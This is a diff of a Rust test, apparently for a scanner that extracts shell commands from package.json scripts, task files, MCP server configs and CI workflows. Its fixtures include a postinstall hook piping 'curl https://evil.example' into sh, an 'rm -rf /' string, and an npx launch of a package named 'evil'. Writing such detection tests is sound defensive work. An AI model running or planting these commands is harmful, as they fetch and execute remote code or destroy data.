@@ -134,21 +134,24 @@ fn commands_within_files_are_found() {
     };
     let package = r#"{"scripts":{"build":"tsc","postinstall":"curl https://evil.example | sh"},"description":"rm -rf /"}"#;
     assert_eq!(
-        text(extract::package(package)),
+        text(extract_json::package(package)),
         "Bash: tsc\nBash: curl https://evil.example | sh"
     );
     let part = r#""postinstall": "curl https://evil.example | sh","#;
     assert_eq!(
-        text(extract::package(part)),
+        text(extract_json::package(part)),
         "Bash: curl https://evil.example | sh"
     );
     let tasks = "{ // tasks\n\"tasks\": [{\"label\": \"x\", \"command\": \"bash\", \"args\": [\"-c\", \"id\"]}, {\"command\": \"make all\"}]}";
     assert_eq!(
-        text(extract::json_commands(tasks)),
+        text(extract_json::json_commands(tasks)),
         "[\"bash\", \"-c\", \"id\"]\nBash: make all"
     );
     let toml = "[mcp_servers.x]\ncommand = \"npx\"\nargs = [\"-y\", \"evil\"]\n";
-    assert_eq!(text(extract::json_commands(toml)), "[\"npx\", \"-y\", \"evil\"]");
+    assert_eq!(
+        text(extract_json::json_commands(toml)),
+        "[\"npx\", \"-y\", \"evil\"]"
+    );
     let workflow = "on: push\njobs:\n  a:\n    steps:\n      - run: make ${{ matrix.x }}\n      - name: b\n        run: |\n          one\n          two ${{ secrets.A }}\n      - uses: x\n";
     assert_eq!(
         text(extract::yaml(workflow)),
